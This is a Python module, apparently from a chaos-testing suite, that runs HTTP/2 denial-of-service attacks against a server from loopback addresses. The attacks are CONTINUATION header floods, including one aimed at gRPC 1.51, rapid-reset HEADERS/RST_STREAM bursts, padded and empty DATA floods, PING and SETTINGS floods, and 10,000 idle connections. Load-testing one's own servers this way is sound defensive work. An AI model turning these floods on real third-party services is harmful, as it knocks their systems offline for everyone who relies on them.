"""What probe does to a server or to the edge: each attack in a process of its own, which gives way to those who serve."""
import multiprocessing
import os
import pathlib
import resource
import socket
import struct
import time
import types

from edge import read_for

# pylint: disable=wrong-import-order
import http2_attacks
from http2 import (
    CHECK, CONTINUATION, DATA, END_HEADERS, HEADERS, PADDED, SETTINGS, Connection, frame, headers_of, integer, literal)

LONGEST = 12.0  # seconds of one attack
SOURCES = 100
MOST_AT_A_TIME = 10000


class _Target:
    """The address that is attacked, and the network of loopback from which that is done."""

    def __init__(self, address, ca_file, network):
        self.address, self._ca_file, self._network = address, str(ca_file), network

    def source(self, number):
        return f'127.1.{self._network}.{number % SOURCES + 1}'

    def connect(self, number=0):
        return Connection(self.address, self._ca_file, self.source(number))


def _one_connection(target, send):
    """On one connection, until it has been sent, or the connection is ended."""
    begin = time.monotonic()
    connection = target.connect()
    # What is agreed on in the beginning may not come between frames of headers.
    read_for([connection], 0.3)
    send(connection)
    read_for([connection], max(1.0, begin + 3 - time.monotonic()), lambda: connection.closed)
    told = connection.closed or 'no'
    connection.close()
    return told


def _as_measured_before(attack, **arguments):
    """One of tests/chaos/http2_attacks.py."""
    def send(connection):
        http2_attacks.ATTACKS[attack](connection, types.SimpleNamespace(attack=attack, rate=0, **arguments))
    return lambda target: _one_connection(target, send)


def _on_one_stream(piece, cost, frames):
    """A call whose request goes on in frames that say nothing. `cost`: what each takes of the windows."""
    def send(connection):
        connection.send(frame(HEADERS, END_HEADERS, 1, headers_of(CHECK)))
        until, sent = time.monotonic() + LONGEST, 0
        while sent < frames and connection.closed is None and time.monotonic() < until:
            window = min(connection.window, connection.stream_windows.get(1, connection.first_window))
            now = min(200, window // cost if cost else 200, frames - sent)
            if now <= 0:
                read_for([connection], 0.01)
                continue
            connection.take_window(1, now * cost)
            connection.send(piece * now, until)
            sent += now
    return lambda target: _one_connection(target, send)


def _headers_without_end(first, piece):
    """8 MiB, no faster than 3 MiB a second: gRPC 1.51 reads a string that grows again from its beginning each time that more of
    it is there, so that what comes at once costs it less."""
    def send(connection):
        connection.send(frame(HEADERS, 0, 1, headers_of(CHECK) + first))
        begin, sent, more = time.monotonic(), 0, frame(CONTINUATION, 0, 1, piece) * 4
        while sent < 8 << 20 and connection.send(more, begin + LONGEST):
            sent += 4 * len(piece)
            time.sleep(max(0, begin + sent / (3 << 20) - time.monotonic()))
    return lambda target: _one_connection(target, send)


def _settings(frames):
    def send(connection):
        sent = 0
        while sent < frames and connection.send(frame(SETTINGS, 0, 0) * 500):
            sent += 500
    return lambda target: _one_connection(target, send)


def _idle(with_tls):
    """Connections on which nothing comes: without a word, or behind the preface of HTTP/2."""
    def attack_with(target):
        begin, taken, refused = time.monotonic(), [], 0
        for i in range(MOST_AT_A_TIME):
            try:
                if with_tls:
                    taken.append(target.connect(i))
                else:
                    taken.append(socket.create_connection(target.address, timeout=5, source_address=(target.source(i), 0)))
            except OSError:
                refused += 1
            if time.monotonic() > begin + 3 * LONGEST:
                break
        time.sleep(3)
        told = f'{len(taken)} taken, {refused} refused'
        for connection in taken:
            connection.close()
        return told
    return attack_with


ATTACKS = {
    'a header string without end, in CONTINUATION':
        _headers_without_end(b'\x10' + integer(1, 7) + b'x' + integer(256 << 20, 7), b'a' * 1024),
    'headers without end, in CONTINUATION': _headers_without_end(b'', literal(b'x' * 100, b'y' * 100) * 5),
    '4,000 pairs of HEADERS and RST_STREAM': _as_measured_before('bare', streams=4000),
    '100,000 pairs of HEADERS and RST_STREAM': _as_measured_before('bare', streams=100000),
    '10,000 connections without a word': _idle(False),
    '10,000 connections without a call': _idle(True),
    '100,000 DATA frames, empty but for 255 bytes of padding':
        _on_one_stream(frame(DATA, PADDED, 1, b'\xff' + b'\0' * 255), 256, 100000),
    '100,000 DATA frames, empty but for a byte of padding': _on_one_stream(frame(DATA, PADDED, 1, b'\0'), 1, 100000),
    '100,000 empty DATA frames': _on_one_stream(frame(DATA, 0, 1), 0, 100000),
    '4,000 padded calls that are reset': _as_measured_before('padded', streams=4000),
    '100,000 PING frames': _as_measured_before('pings', streams=100000),
    '100,000 SETTINGS frames': _settings(100000),
}


def _give_way():
    """To those who serve and to the well-behaved client, as from a machine of its own: it takes what they leave of the processors.
    Where these are beyond all others (chrt), not to the others."""
    os.setsid()
    served_before_all = os.sched_getscheduler(0) != os.SCHED_OTHER
    os.sched_setscheduler(0, os.SCHED_OTHER if served_before_all else os.SCHED_IDLE, os.sched_param(0))
    pathlib.Path('/proc/self/autogroup').write_text('-20' if served_before_all else '19', encoding='ascii')


def _run(name, target, told):
    _give_way()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    try:
        told.put(ATTACKS[name](target))
    except OSError as error:
        told.put(f'not begun: {error}')


def attack(name, address, ca_file, network):
    """Returns how its connection ended, when it is over."""
    told = multiprocessing.Queue()
    process = multiprocessing.Process(target=_run, args=(name, _Target(address, ca_file, network), told))
    process.start()
    answer = told.get(timeout=300)
    process.join()
    return answer
